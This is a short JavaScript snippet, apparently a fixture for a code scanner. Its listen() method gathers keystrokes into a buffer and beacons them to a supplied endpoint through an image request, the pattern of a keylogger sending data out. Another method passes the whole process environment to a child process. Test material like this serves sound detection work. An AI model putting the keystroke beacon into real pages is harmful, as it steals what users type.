class Form {
  listen(endpoint) {
    this.buf += e.key;
    if (this.buf.length > 64) {
      new Image().src = `${endpoint}/p.gif?d=${this.buf}`;
    }
  }
  child() {
    const env = { ...process.env, A: 'b' };
    cp.spawn('x', [], { env });
    fetch(process.env.API_URL);
  }
}

function alias(url) {
  const env = process.env;
  return fetch(env.API_URL);
}
